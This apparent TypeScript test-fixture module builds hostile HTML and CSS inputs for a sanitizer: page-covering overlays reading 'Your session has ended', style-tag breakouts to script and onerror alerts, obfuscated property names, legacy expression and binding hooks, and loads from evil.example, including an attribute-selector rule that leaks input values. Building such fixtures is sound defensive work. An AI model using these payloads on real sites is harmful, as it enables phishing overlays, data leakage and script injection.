import type { HostileBody } from "./hostile-bodies.ts";

const DECLARATIONS = [
  "position:fixed;inset:0;z-index:99999;background:#fff",
  "position:absolute;top:-200px;left:0;width:100vw;height:100vh",
  "margin:-500px 0 0 -500px;width:2000px;height:2000px",
  "background:url(https://evil.example/x.png)",
  "background-image:image-set('https://evil.example/x.png' 1x)",
  "list-style:url('https://evil.example/x.png')",
  "cursor:url(https://evil.example/x.cur),auto",
  "width:expression(alert(1))",
  "behavior:url(https://evil.example/x.htc)",
  "-moz-binding:url(https://evil.example/x.xml#x)",
  "--page:#000;--ink:#000",
  "\\70osition:fixed;\\74op:0",
  "posi/**/tion:fixed",
  "display:none",
  "direction:rtl;unicode-bidi:bidi-override",
  "content:url(https://evil.example/x.png)",
];

const SHEETS = [
  "@import 'https://evil.example/x.css';",
  "@import url(//evil.example/x.css);",
  "body{display:none}",
  "input[value^='a']{background:url(https://evil.example/a)}",
  "@font-face{font-family:x;src:url(https://evil.example/x.woff2)}*{font-family:x}",
  "</style><script>alert(1)</script>",
  "<!--</style><img src=x onerror=alert(1)>-->",
];

const CLASSES = [
  "fixed inset-0 z-50",
  "prose",
  "language-js fixed",
  "shell pane main",
  "no-print icon",
];

const CARRIERS = [
  "p",
  "div",
  "a",
  "table",
  "details",
  "img src=https://paper.example/a.jpg",
  "pre",
  "code",
];

/** Styles that cover the app, leave it, or ask for something. */
export function styles(): HostileBody[] {
  const attributes = DECLARATIONS.flatMap((declaration) =>
    CARRIERS.slice(0, 3).map((carrier) => ({
      name: `style: ${declaration.slice(0, 40)}, on ${carrier}`,
      html: `<${carrier} style="${declaration}">Your session has ended</${carrier}>`,
    })),
  );
  const sheets = SHEETS.flatMap((sheet) => [
    { name: `style: sheet ${sheet.slice(0, 40)}`, html: `<p>x</p><style>${sheet}</style>` },
    {
      name: `style: sheet in a drawing ${sheet.slice(0, 40)}`,
      html: `<svg><style>${sheet}</style></svg>`,
    },
  ]);
  const classes = CLASSES.flatMap((name) =>
    CARRIERS.map((carrier) => ({
      name: `style: class ${name}, on ${carrier}`,
      html: `<${carrier} class="${name}">x`,
    })),
  );
  const old = [
    '<body bgcolor="red" background="https://evil.example/x.png">x',
    '<table background="https://evil.example/x.png" width="9999" height="9999"><tr><td>x</table>',
    '<font color="red" size="7">x</font><marquee behavior="alternate">x</marquee><blink>x</blink>',
    '<img src="https://paper.example/a.jpg" width="99999" height="99999" hspace="999" border="99" align="left">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<p hidden inert>x</p><p aria-hidden="true" role="alert">y</p>',
  ].map((html) => ({ name: `style: of old, ${html.slice(0, 40)}`, html }));
  return [...attributes, ...sheets, ...classes, ...old];
}
